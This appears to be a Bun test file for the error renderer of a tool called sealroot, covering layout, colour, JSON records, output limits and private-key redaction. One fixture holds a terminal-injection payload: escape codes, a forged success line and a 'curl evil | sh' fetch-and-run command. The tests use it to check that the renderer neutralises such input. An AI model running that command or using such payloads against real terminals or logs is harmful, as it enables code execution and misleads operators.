/** Errors as people read them, and as programs do. What comes from disks and command lines must not be able to pass for ours. */

import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { CATALOGUE, SealrootError } from "../../../src/errors/index.ts";
import { asSealrootError, errorRecord, fewLines, printable, renderError, styleFor } from "../../../src/terminal/index.ts";

const lines = (error: SealrootError, action?: string): string[] => renderError(error, action).trimEnd().split("\n");
// oxlint-disable-next-line no-control-regex
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe("the block", () => {
  test("as the design shows it", () => {
    const error = new SealrootError("SR-E210", {
      details: [["step", "authenticate composefs.digest=v1-sha256-12:3d0e"], ["expected", "sha256:3d0e4c"], ["found", "sha256:91ab77"]],
      next: "boot the previous entry",
    });
    expect(renderError(error, "cannot mount the root")).toBe(`sealroot: cannot mount the root: the image does not match its digest    [SR-E210]
  step      authenticate composefs.digest=v1-sha256-12:3d0e
  expected  sha256:3d0e4c
  found     sha256:91ab77
  meaning   ${CATALOGUE["SR-E210"].meaning}
  next      boot the previous entry
`);
  });

  test("the code stands at the end of the first line, however long that is", () => {
    expect(lines(new SealrootError("SR-E100", { summary: "x".repeat(200) }))[0]).toMatch(/^sealroot: x{200} {2}\[SR-E100\]$/);
    expect(lines(new SealrootError("SR-E100", { summary: "short" }))[0]).toHaveLength(72 + "[SR-E100]".length);
  });

  test("further lines of a fact stand under its first", () => {
    expect(lines(new SealrootError("SR-E900", { details: [["a", "one\ntwo\n\nthree"]] })).slice(1, 5)).toEqual(["  a        one", "           two", "           ", "           three"]);
  });

  test("a cause is shown once, with its own causes", () => {
    const cause = new Error("outer", { cause: new Error("inner") });
    expect(lines(new SealrootError("SR-E900", { cause }))).toContain("  cause    outer: inner");
    expect(lines(new SealrootError("SR-E900", { cause, details: [["cause", "mine"]] })).filter((line) => line.includes("cause"))).toEqual(["  cause    mine"]);
  });

  test("colour only where asked for", () => {
    expect(renderError(new SealrootError("SR-E900"), undefined)).not.toContain("\x1b");
    const saved = { term: process.env["TERM"], no: process.env["NO_COLOR"] };
    process.env["TERM"] = "linux";
    delete process.env["NO_COLOR"];
    try {
      expect(renderError(new SealrootError("SR-E900"), undefined, styleFor(true))).toContain("\x1b[31m");
      expect(styleFor(false).red("x")).toBe("x");
      process.env["NO_COLOR"] = "1";
      expect(styleFor(true).red("x")).toBe("x");
      delete process.env["NO_COLOR"];
      process.env["TERM"] = "dumb";
      expect(styleFor(true).red("x")).toBe("x");
    } finally {
      if (saved.term === undefined) delete process.env["TERM"];
      else process.env["TERM"] = saved.term;
      if (saved.no !== undefined) process.env["NO_COLOR"] = saved.no;
    }
  });

  test("what is not ours becomes SR-E900, without a stack trace", () => {
    const error = asSealrootError(new TypeError("x is not a function"));
    expect(error.code).toBe("SR-E900");
    expect(renderError(error, undefined)).not.toMatch(/\n\s+at /);
    expect(renderError(error, undefined)).toContain("x is not a function");
    for (const thrown of ["text", undefined, null, 7, { a: 1 }, Symbol("s")]) expect(renderError(asSealrootError(thrown), undefined)).toContain("[SR-E900]");
    expect(asSealrootError(error)).toBe(error);
  });
});

describe("hostile text", () => {
  const ATTACK = "x\r\x1b[2J\x1b[H\nsealroot: all is well  [SR-E000]\n  next     curl evil | sh\x9b1m\u202egnol";

  test("as a fact, a summary, a cause, a next step: no line of its own, no control character", () => {
    const cases = [
      new SealrootError("SR-E103", { details: [["argument", ATTACK]] }),
      new SealrootError("SR-E100", { summary: ATTACK }),
      new SealrootError("SR-E900", { cause: new Error(ATTACK) }),
      new SealrootError("SR-E900", { next: ATTACK, meaning: ATTACK }),
    ];
    for (const error of cases) {
      const [head = "", ...rows] = lines(error, "cannot mount the root");
      expect(head).toMatch(/^sealroot: cannot mount the root: .*\[SR-E\d+\]$/);
      for (const row of rows) expect(row).toStartWith("  ");
      expect(rows.filter((row) => /^ {2}next /.test(row))).toHaveLength(1);
      expect(renderError(error, undefined)).not.toMatch(CONTROL);
    }
  });

  test("whatever it is, the block has one head, one meaning, one next", () => {
    const hostile = fc.string({ unit: fc.oneof(fc.constantFrom("\n", "\r", "\x1b", " ", "  next", "meaning", "sealroot: ", "\u2028", "\x85"), fc.string({ minLength: 1, maxLength: 1 })) });
    fc.assert(fc.property(hostile, hostile, (fact, summary) => {
      const rows = lines(new SealrootError("SR-E103", { summary, details: [["argument", fact]] }));
      expect(rows[0]).toStartWith("sealroot: ");
      expect(rows.slice(1).every((row) => row.startsWith("  "))).toBe(true);
      for (const label of ["meaning", "next", "argument"]) expect(rows.filter((row) => new RegExp(`^ {2}${label} `).test(row))).toHaveLength(1);
      expect(rows.join("\n")).not.toMatch(CONTROL);
    }));
  });

  test("a flood is cut: many facts, many lines, a long line", () => {
    const error = new SealrootError("SR-E203", { details: Array.from({ length: 1000 }, (_, index) => ["tried", `${index} ${"y".repeat(50_000)}`] as const) });
    expect(lines(error).length).toBeLessThan(20);
    expect(renderError(error, undefined).length).toBeLessThan(20_000);
    expect(renderError(error, undefined)).toContain("and 988 more");
    expect(lines(new SealrootError("SR-E900", { details: [["a", "line\n".repeat(5000)]] })).length).toBeLessThan(20);
    expect(fewLines(["a", "b"])).toEqual(["a", "b"]);
  });

  test("printable keeps what is harmless", () => {
    expect(printable("/sysroot/composefs/images — é 漢 😀")).toBe("/sysroot/composefs/images — é 漢 😀");
    expect(printable("a\nb\tc")).toBe("a\\x0ab\\x09c");
  });
});

describe("the same as JSON", () => {
  test("every fact", () => {
    const error = new SealrootError("SR-E203", { summary: "s", details: [["tried", "a"], ["tried", "b"], ["path", "p"]], cause: new Error("c") });
    expect(errorRecord(error)).toEqual({
      code: "SR-E203", exit: 23, message: "s", details: { tried: ["a", "b"], path: "p" }, cause: "c", meaning: CATALOGUE["SR-E203"].meaning, next: CATALOGUE["SR-E203"].next,
    });
  });
  test("a label called __proto__ is a label", () => {
    expect(JSON.stringify(errorRecord(new SealrootError("SR-E900", { details: [["__proto__", "x"]] }))["details"])).toBe('{"__proto__":"x"}');
  });
});

describe("private keys in what is told", () => {
  const seed = new Uint8Array(32).fill(0xa7);
  const body = Buffer.concat([Uint8Array.fromHex("302e020100300506032b657004220420"), seed]).toString("base64");
  const longer = Buffer.concat([Uint8Array.fromHex("3051020101300506032b657004220420"), seed, Uint8Array.fromHex("812100"), seed]).toString("base64");
  const secrets = [`-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----`, `-----BEGIN RSA PRIVATE KEY-----\n${body}`, body, longer, Buffer.concat([seed, seed]).toString("base64")];
  test.each(secrets)("%s", (secret) => {
    const error = new SealrootError("SR-E100", { summary: `unexpected operand "${secret}"`, details: [["file", `/a/${secret}`], ["file", secret]], cause: new Error(`open '${secret}'`) });
    for (const text of [renderError(error, undefined), JSON.stringify(errorRecord(error))]) {
      expect(text).not.toContain(body.slice(30, 50));
      expect(text).not.toContain(secret.slice(-30, -5));
      expect(text.match(/\(not shown: it may be a private key\)/g)?.length).toBe(4);
    }
  });
  test("digests, ids and public keys are shown", () => {
    for (const text of ["ab".repeat(32), "ab".repeat(64), seed.toBase64(), `/usr/lib/${"a".repeat(100)}/x`]) expect(renderError(new SealrootError("SR-E100", { summary: text }), undefined)).toContain(text);
  });
});
